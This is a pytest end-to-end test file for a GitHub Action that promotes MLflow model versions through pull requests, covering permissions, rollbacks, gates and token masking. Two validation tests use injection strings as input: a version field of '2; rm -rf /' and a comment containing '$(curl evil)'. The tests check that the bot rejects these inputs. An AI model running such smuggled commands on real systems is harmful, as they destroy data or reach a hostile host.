"""The action entry with real-shaped event payloads, the GitHub fake and a real MLflow server."""

from __future__ import annotations

import json
import os
import re
from pathlib import Path
from typing import Any

import pytest
import requests

from bot.action import main
from tests.e2e.helpers import seed_fraud_model
from tests.rig.fake_github import FakeGitHub
from tests.rig.github_rig import TOKEN
from tests.rig.repos import commit_all, git, make_gitops_repo

WRITER, READER = "alice", "mallory"
CONFIG = ".github/promotion.yml"


class Rig:
    def __init__(self, tmp: Path, fake: FakeGitHub, name: str) -> None:
        self.tmp, self.fake, self.name = tmp, fake, name
        self.repo = make_gitops_repo(tmp / "workspace", registered_model=name)
        fake.permissions.update({WRITER: "write", READER: "read", "olivia": "maintain"})

    def configure(self, old: str, new: str) -> None:
        path = self.repo / CONFIG
        path.write_text(path.read_text().replace(old, new, 1))
        commit_all(self.repo, "configure")

    def env(self, event_name: str, payload: dict[str, Any], **inputs: str) -> dict[str, str]:
        event_path = self.tmp / f"event-{len(self.fake.requests)}.json"
        event_path.write_text(json.dumps(payload))
        self.output, self.summary = self.tmp / "output.txt", self.tmp / "summary.md"
        for path in (self.output, self.summary):
            path.write_text("")
        env = {
            "GITHUB_EVENT_NAME": event_name,
            "GITHUB_EVENT_PATH": str(event_path),
            "GITHUB_REPOSITORY": "acme/gitops",
            "GITHUB_API_URL": self.fake.base_url,
            "GITHUB_WORKSPACE": str(self.repo),
            "GITHUB_OUTPUT": str(self.output),
            "GITHUB_STEP_SUMMARY": str(self.summary),
            "PROMOTE_GITHUB_REQUEST_INTERVAL": "0",
            "PROMOTE_GITHUB_WRITE_INTERVAL": "0",
            "INPUT_GITHUB-TOKEN": TOKEN,
            "INPUT_COMMAND": "auto",
        }
        env.update({f"INPUT_{k.upper().replace('_', '-')}": v for k, v in inputs.items()})
        return env

    def outputs(self) -> dict[str, str]:
        lines = self.output.read_text().splitlines()
        found, i = {}, 0
        while i < len(lines):
            name, _, delimiter = lines[i].partition("<<")
            end = lines.index(delimiter, i + 1)
            found[name] = "\n".join(lines[i + 1 : end])
            i = end + 1
        return found

    def open_pulls(self) -> list[dict[str, Any]]:
        return [p for p in self.fake.pulls.values() if p["state"] == "open"]

    def merge(self, number: int) -> None:
        response = requests.put(
            f"{self.fake.base_url}/repos/acme/gitops/pulls/{number}/merge",
            headers={"Authorization": f"token {TOKEN}"},
            json={"merge_method": "merge"},
            timeout=10,
        )
        assert response.status_code == 200, response.text

    def comment(
        self,
        body: str,
        login: str = WRITER,
        action: str = "created",
        issue: int | None = None,
        user_type: str = "User",
    ) -> dict[str, Any]:
        if issue is None:
            issue = self.fake.open_issue("Promotions")["number"]
        created = self.fake.add_comment(issue, login, body)
        return {
            "action": action,
            "issue": {"number": issue, "title": "Promotions"},
            "comment": {
                "id": created["id"],
                "body": body,
                "user": {"login": login, "type": user_type},
            },
            "repository": {"full_name": "acme/gitops"},
            "sender": {"login": login},
        }

    def reactions(self, payload: dict[str, Any]) -> list[str]:
        return [r["content"] for r in self.fake.reactions.get(payload["comment"]["id"], [])]

    def replies(self, payload: dict[str, Any]) -> list[str]:
        issue = payload["issue"]["number"]
        return [
            re.sub(r"\n*<!-- model-promotion-bot:comment [^>]* -->\n?\Z", "", c["body"])
            for c in self.fake.comments.get(issue, [])
            if c["user"] != WRITER and c["user"] != READER and c["user"] != "olivia"
        ]


@pytest.fixture
def rig(tmp_path: Path, fake_github: FakeGitHub, tracking_uri: str) -> Rig:
    name = seed_fraud_model(tracking_uri)
    made = Rig(tmp_path, fake_github, name)
    fake_github.seed(made.repo)
    return made


def test_schedule_opens_prs_and_writes_outputs_and_summary(rig: Rig) -> None:
    assert main(rig.env("schedule", {"schedule": "*/30 * * * *"})) == 0
    assert len(rig.open_pulls()) == 3
    outputs = rig.outputs()
    promoted = json.loads(outputs["promoted"])
    assert {p["environment"] for p in promoted} == {"dev", "staging", "prod"}
    assert all(p["version"] == "2" and p["image_tag"] == "v1.4.0" for p in promoted)
    assert outputs["pr-url"].startswith(rig.fake.host_url)
    assert json.loads(outputs["skipped"]) == []
    summary = rig.summary.read_text()
    assert "| fraud\\-detector | prod | 🚀 opened | v1 `v1.3.0` | v2 `v1.4.0` |" in summary


def test_workflow_dispatch_with_inputs_promotes_one_env(rig: Rig) -> None:
    env = rig.env(
        "workflow_dispatch",
        {"inputs": {}},
        environment="staging",
        version="1",
        model="fraud-detector",
    )
    assert main(env) == 0
    assert rig.open_pulls() == []  # v1 already deployed: nothing to do
    skipped = json.loads(rig.outputs()["skipped"])
    assert skipped == [
        {
            "model": "fraud-detector",
            "environment": "staging",
            "status": "up-to-date",
            "healthy": True,
            "reason": "up to date: v1 (v1.3.0)",
        }
    ]


def test_repository_dispatch_takes_the_client_payload(rig: Rig) -> None:
    payload = {
        "action": "model-validated",
        "client_payload": {"model": "fraud-detector", "version": "2", "environment": "prod"},
    }
    assert main(rig.env("repository_dispatch", payload)) == 0
    (pr,) = rig.open_pulls()
    assert pr["title"] == "Promote fraud-detector to prod: v2 (v1.4.0)"
    assert rig.outputs()["pr-number"] == str(pr["number"])


@pytest.mark.parametrize(
    ("payload", "message"),
    [
        (
            {"client_payload": {"version": "2; rm -rf /", "model": "fraud-detector"}},
            "version must be a registry version number, got '2; rm -rf /'",
        ),
        (
            {"client_payload": {"model": "nope"}},
            "unknown model 'nope': the config has fraud-detector",
        ),
        ({"client_payload": ["x"]}, "repository_dispatch event: client_payload must be an object"),
        (
            {"client_payload": {"version": {"a": 1}}},
            "repository_dispatch event: client_payload.version must be a string",
        ),
    ],
)
def test_bad_dispatch_payload_is_an_error_and_writes_nothing(
    rig: Rig, capsys: pytest.CaptureFixture[str], payload: dict[str, Any], message: str
) -> None:
    code = main(rig.env("repository_dispatch", payload))
    out = capsys.readouterr().out
    assert code == 1
    assert f"::error::{message}" in out
    assert rig.fake.writes() == []


def test_promote_comment_from_writer(rig: Rig) -> None:
    payload = rig.comment("/promote prod")
    assert main(rig.env("issue_comment", payload)) == 0
    (pr,) = rig.open_pulls()
    assert rig.reactions(payload) == ["eyes", "rocket"]
    (reply,) = rig.replies(payload)
    assert reply.startswith(f"@{WRITER} opened Promote fraud-detector to prod: v2 (v1.4.0)")
    assert f"/pull/{pr['number']}" in reply


def test_comment_from_read_only_user_is_refused(rig: Rig) -> None:
    payload = rig.comment("/promote prod", login=READER)
    rig.fake.reset_log()
    assert main(rig.env("issue_comment", payload)) == 0
    assert rig.open_pulls() == []
    assert rig.reactions(payload) == ["eyes", "confused"]
    assert rig.replies(payload) == [
        f"@{READER} you need write access to this repository to run `/promote`."
    ]
    routes = {r.route for r in rig.fake.writes()}
    assert routes == {
        "POST /repos/{owner}/{repo}/issues/comments/{comment_id}/reactions",
        "POST /repos/{owner}/{repo}/issues/{number}/comments",
    }
    assert rig.fake.branch_heads().keys() == {"main"}


@pytest.mark.parametrize(
    ("changes", "reason"),
    [
        ({"action": "edited"}, "edited"),
        ({"action": "deleted"}, "deleted"),
        ({"user_type": "Bot"}, "bot"),
    ],
)
def test_edited_deleted_and_bot_comments_are_ignored(
    rig: Rig, changes: dict[str, str], reason: str
) -> None:
    payload = rig.comment("/promote prod", **changes)
    rig.fake.reset_log()
    assert main(rig.env("issue_comment", payload)) == 0
    assert rig.fake.writes() == []
    assert rig.reactions(payload) == []


def test_status_and_help_on_a_pull_request(rig: Rig) -> None:
    assert main(rig.env("schedule", {})) == 0
    number = rig.open_pulls()[0]["number"]
    status = rig.comment("/status", issue=number)
    assert main(rig.env("issue_comment", status)) == 0
    (reply,) = rig.replies(status)
    assert "| fraud\\-detector | prod | ✔ up-to-date | v1 `v1.3.0` | v2 `v1.4.0` |" in reply
    assert rig.reactions(status) == ["eyes", "rocket"]
    help_ = rig.comment("/help", issue=number)
    assert main(rig.env("issue_comment", help_)) == 0
    assert "`/rollback <environment> [model]`" in rig.replies(help_)[-1]


def test_malformed_command_gets_usage(rig: Rig) -> None:
    payload = rig.comment("/promote prod $(curl evil)")
    assert main(rig.env("issue_comment", payload)) == 0
    assert rig.replies(payload) == [
        f"@{WRITER} arguments may only use letters, digits, `.`, `_` and `-`; usage: "
        "`/promote <environment> [version] [model]`"
    ]
    assert rig.reactions(payload) == ["eyes", "confused"]
    assert rig.open_pulls() == []


def test_environment_allow_list_with_team(rig: Rig) -> None:
    rig.configure("      prod:\n", "      prod:\n        allow: ['@acme/ml-platform']\n")
    refused = rig.comment("/promote prod")
    assert main(rig.env("issue_comment", refused)) == 0
    assert rig.replies(refused) == [
        f"@{WRITER} only @acme/ml-platform may run `/promote` for prod."
    ]
    rig.fake.teams[("acme", "ml-platform")] = {WRITER}
    allowed = rig.comment("/promote prod")
    assert main(rig.env("issue_comment", allowed)) == 0
    assert len(rig.open_pulls()) == 1


def test_promote_without_version_takes_the_upstream_version(rig: Rig) -> None:
    rig.configure("      prod:\n", "      prod:\n        from: staging\n")
    rig.fake.seed(rig.repo)
    nothing = rig.comment("/promote prod")
    assert main(rig.env("issue_comment", nothing)) == 0
    assert rig.replies(nothing) == [f"@{WRITER} fraud-detector/prod: `up to date: v1 (v1.3.0)`"]
    staging = rig.comment("/promote staging")
    assert main(rig.env("issue_comment", staging)) == 0
    rig.merge(rig.open_pulls()[0]["number"])
    prod = rig.comment("/promote prod")
    assert main(rig.env("issue_comment", prod)) == 0
    titles = [p["title"] for p in rig.open_pulls()]
    assert titles == ["Promote fraud-detector to prod: v2 (v1.4.0)"]


def test_rollback_restores_previous_version_and_holds_it(rig: Rig, tmp_path: Path) -> None:
    assert main(rig.env("schedule", {}, environment="prod")) == 0
    rig.merge(rig.open_pulls()[0]["number"])

    payload = rig.comment("/rollback prod")
    assert main(rig.env("issue_comment", payload)) == 0
    (pr,) = rig.open_pulls()
    assert pr["title"] == "Roll back fraud-detector in prod: v2 -> v1 (v1.3.0)"
    assert pr["head_ref"] == "promote/fraud-detector/prod+rollback"
    rig.merge(pr["number"])

    # A scheduled run must not promote v2 again: the rollback holds.
    rig.fake.reset_log()
    assert main(rig.env("schedule", {}, environment="prod")) == 0
    assert rig.open_pulls() == []
    (skipped,) = json.loads(rig.outputs()["skipped"])
    assert skipped["reason"].startswith("held: v2 was rolled back in prod")
    assert rig.fake.writes() == []
    # The hold is read from the state file the rollback's own commit wrote, not from history.
    assert not [r for r in rig.fake.requests if r.route.endswith("/commits")]
    # Once: by REST, or as a path in the poll's GraphQL read.
    state = "promotion-state.yml"
    state_reads = [r for r in rig.fake.requests if state in r.path or state.encode() in r.body]
    assert len(state_reads) == 1

    clone = tmp_path / "clone"
    git(tmp_path, "clone", "-q", str(rig.fake.git_url), str(clone))
    log = git(clone, "log", "--format=%s", "origin/main")
    assert "Roll back fraud-detector in prod: v2 -> v1 (v1.3.0)" in log
    held = (clone / ".github" / "promotion-state.yml").read_text(encoding="utf-8")
    assert "- {model: fraud-detector, environment: prod, version: '2'}" in held

    # An explicit /promote with a version lifts the hold, in the same commit.
    again = rig.comment("/promote prod 2")
    assert main(rig.env("issue_comment", again)) == 0
    (pr,) = rig.open_pulls()
    assert pr["title"] == "Promote fraud-detector to prod: v2 (v1.4.0)"
    assert "Merging this lifts the hold on v2" in pr["body"]
    git(clone, "fetch", "-q", "origin", pr["head_ref"])
    lifted = git(clone, "show", "FETCH_HEAD:.github/promotion-state.yml")
    assert "fraud-detector" not in lifted


def test_dry_run_writes_nothing(rig: Rig) -> None:
    rig.fake.reset_log()
    assert main(rig.env("schedule", {}, **{"dry-run": "true"})) == 0
    assert rig.fake.writes() == []
    assert "📝 planned" in rig.summary.read_text()


def test_missing_event_fields(rig: Rig, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(rig.env("issue_comment", {"action": "created"})) == 1
    assert "::error::issue_comment event payload: comment must be an object" in (
        capsys.readouterr().out
    )


def test_config_error_is_annotated_with_file_and_line(
    rig: Rig, capsys: pytest.CaptureFixture[str]
) -> None:
    rig.configure("    metrics:", "    metrcs:")
    assert main(rig.env("schedule", {})) == 1
    out = capsys.readouterr().out
    assert (
        "::error file=.github/promotion.yml,line=26::models.fraud-detector.metrcs: unknown key "
        "'metrcs'; did you mean 'metrics'?"
    ) in out.replace("%3A", ":")


def test_token_is_masked(rig: Rig, capsys: pytest.CaptureFixture[str]) -> None:
    main(rig.env("schedule", {}, **{"dry-run": "true"}))
    assert f"::add-mask::{TOKEN}" in capsys.readouterr().out


def test_push_of_a_merged_promotion_records_the_deployment(rig: Rig) -> None:
    from mlflow import MlflowClient

    assert main(rig.env("schedule", {}, environment="prod")) == 0
    rig.merge(rig.open_pulls()[0]["number"])
    clone = rig.tmp / "clone"
    git(rig.tmp, "clone", "-q", str(rig.fake.git_url), str(clone))
    log = git(clone, "log", "-3", "--reverse", "--format=%H%x00%B%x1e", "origin/main")
    commits = [
        {"id": sha, "message": message.strip("\n")}
        for sha, message in (r.strip("\n").split("\x00", 1) for r in log.split("\x1e") if r.strip())
    ]
    before = git(clone, "rev-parse", "origin/main^1").strip()
    push = {
        "ref": "refs/heads/main",
        "before": before,
        "after": commits[-1]["id"],
        "commits": commits,
        "repository": {"full_name": "acme/gitops", "default_branch": "main"},
    }
    assert main(rig.env("push", push)) == 0
    version = MlflowClient(os.environ["MLFLOW_TRACKING_URI"]).get_model_version_by_alias(
        rig.name, "prod"
    )
    assert version.version == "2"
    # What the overlays declare at the pushed commit is recorded, as of that commit.
    assert version.tags["deployed.prod"] == push["after"]
    assert "recorded" in rig.summary.read_text()
    # A re-delivered event changes nothing.
    assert main(rig.env("push", push)) == 0
    assert "already recorded" in rig.summary.read_text()


def test_push_to_another_branch_is_ignored(rig: Rig) -> None:
    push = {"ref": "refs/heads/feature", "commits": [], "repository": {"default_branch": "main"}}
    rig.fake.reset_log()
    assert main(rig.env("push", push)) == 0
    assert rig.fake.writes() == []


def test_outputs_name_the_first_pr_like_create_pull_request(rig: Rig) -> None:
    assert main(rig.env("schedule", {})) == 0
    outputs = rig.outputs()
    assert outputs["pull-request-operation"] == "created"
    branch = outputs["pull-request-branch"]
    (pr,) = [p for p in rig.open_pulls() if p["head_ref"] == branch]
    assert outputs["pr-number"] == str(pr["number"]) and branch == "promote/fraud-detector/dev"
    promoted = json.loads(outputs["promoted"])
    assert [(p["operation"], p["branch"]) for p in promoted] == [
        ("created", f"promote/fraud-detector/{env}") for env in ("dev", "staging", "prod")
    ]
    # Nothing new on the next tick: no operation, and the skipped list says why, as data.
    assert main(rig.env("schedule", {})) == 0
    again = rig.outputs()
    assert (again["pull-request-operation"], again["pull-request-branch"]) == ("none", "")
    skipped = json.loads(again["skipped"])
    assert [(s["status"], s["healthy"]) for s in skipped] == [("up-to-date", True)] * 3


def test_head_sha_output_is_the_pr_head(rig: Rig) -> None:
    assert main(rig.env("schedule", {}, environment="prod")) == 0
    (pr,) = rig.open_pulls()
    assert rig.outputs()["pull-request-head-sha"] == pr["head_sha"]


GATED = "      prod:\n        gates: [accuracy >= 0.99]\n"


def test_a_dispatched_version_goes_through_the_gates_unless_a_person_chose_it(rig: Rig) -> None:
    rig.configure("      prod:\n", GATED)
    chosen = {"environment": "prod", "version": "2", "model": "fraud-detector"}
    # A training pipeline starts the same workflow_dispatch a person does: by default the
    # bot reads it as automation, and the gate holds.
    assert main(rig.env("workflow_dispatch", {"inputs": {}}, **chosen)) == 0
    assert rig.open_pulls() == []
    (blocked,) = json.loads(rig.outputs()["skipped"])
    assert (blocked["status"], blocked["healthy"]) == ("blocked", False)
    assert blocked["failed_gates"] == [
        {"gate": "accuracy >= 0.99", "value": 0.91, "threshold": 0.99, "note": ""}
    ]
    assert "⛔ blocked" in rig.summary.read_text()
    # trigger: person is the explicit say-so: the verdict shows in the PR but does not block.
    assert main(rig.env("workflow_dispatch", {"inputs": {}}, trigger="person", **chosen)) == 0
    (pr,) = rig.open_pulls()
    assert pr["title"] == "Promote fraud-detector to prod: v2 (v1.4.0)"


def test_a_webhook_version_is_never_pinned(rig: Rig) -> None:
    rig.configure("      prod:\n", GATED)
    payload = {"client_payload": {"model": "fraud-detector", "version": "2", "environment": "prod"}}
    assert main(rig.env("repository_dispatch", payload, trigger="person")) == 0
    assert rig.open_pulls() == []
    assert json.loads(rig.outputs()["skipped"])[0]["status"] == "blocked"


def test_a_webhook_version_is_only_a_hint(rig: Rig) -> None:
    """v3 failed validation: a dispatch naming it (forged, or sent as a tag was set) promotes
    what the registry and the policy say, the newest validated v2, and fails nothing."""
    payload = {"client_payload": {"model": "fraud-detector", "version": "3", "environment": "prod"}}
    assert main(rig.env("repository_dispatch", payload)) == 0
    (pr,) = rig.open_pulls()
    assert pr["title"] == "Promote fraud-detector to prod: v2 (v1.4.0)"


def test_unknown_trigger_is_a_one_line_error(rig: Rig, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(rig.env("workflow_dispatch", {}, trigger="bot")) == 1
    assert (
        "::error::input trigger: unknown 'bot'; use one of: schedule, person, pipeline, webhook"
        in capsys.readouterr().out
    )


def _sections(out: str) -> dict[str, list[str]]:
    found: dict[str, list[str]] = {}
    current: list[str] | None = None
    for line in out.splitlines():
        if line.startswith("::group::"):
            current = found.setdefault(line.removeprefix("::group::"), [])
        elif line == "::endgroup::":
            current = None
        elif current is not None:
            current.append(line)
    return found


def test_job_log_has_a_section_per_model_and_environment(
    rig: Rig, capsys: pytest.CaptureFixture[str]
) -> None:
    capsys.readouterr()
    assert main(rig.env("schedule", {})) == 0
    out = capsys.readouterr().out
    sections = _sections(out)
    assert list(sections) == [
        "Read the registry and the repository, and decide",
        "fraud-detector/dev",
        "fraud-detector/staging",
        "fraud-detector/prod",
    ]
    assert (
        "INFO bot.pipeline: 3 unit(s) to evaluate, 0 open promotion PR(s)"
        in sections["Read the registry and the repository, and decide"]
    )
    prod = sections["fraud-detector/prod"]
    assert "INFO bot.pipeline: publishing promote/fraud-detector/prod on github" in prod
    assert prod[-1].startswith(f"✔ opened: v1 -> v2 {rig.fake.host_url}")
    assert "DEBUG" not in out


def test_runner_debug_logs_everything(rig: Rig, capsys: pytest.CaptureFixture[str]) -> None:
    capsys.readouterr()
    env = {**rig.env("schedule", {}, **{"dry-run": "true"}), "RUNNER_DEBUG": "1"}
    assert main(env) == 0
    out = capsys.readouterr().out
    assert "DEBUG " in out
    assert TOKEN not in out.replace(f"::add-mask::{TOKEN}", "")
